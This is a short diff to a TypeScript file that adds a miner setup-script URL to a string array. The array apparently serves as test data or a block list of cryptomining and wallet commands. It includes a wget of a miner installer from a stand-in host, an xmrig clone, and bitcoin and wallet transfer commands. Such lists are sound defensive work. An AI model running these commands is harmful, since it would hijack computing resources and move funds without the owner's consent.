@@ -80,6 +80,7 @@ const OTHERS: readonly string[] = [
   "pkill -9 xmrig; killall minerd",
   "git clone https://github.com/xmrig/xmrig.git",
   "xmrig --version",
+  "https://pool.example/setup_c3pool_miner.sh",
   "wget https://pool.example/setup_c3pool_miner.sh",
   `bitcoin-cli sendtoaddress bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 0.1`,
   `wallet-tool transfer ${XMR} 0.5`,
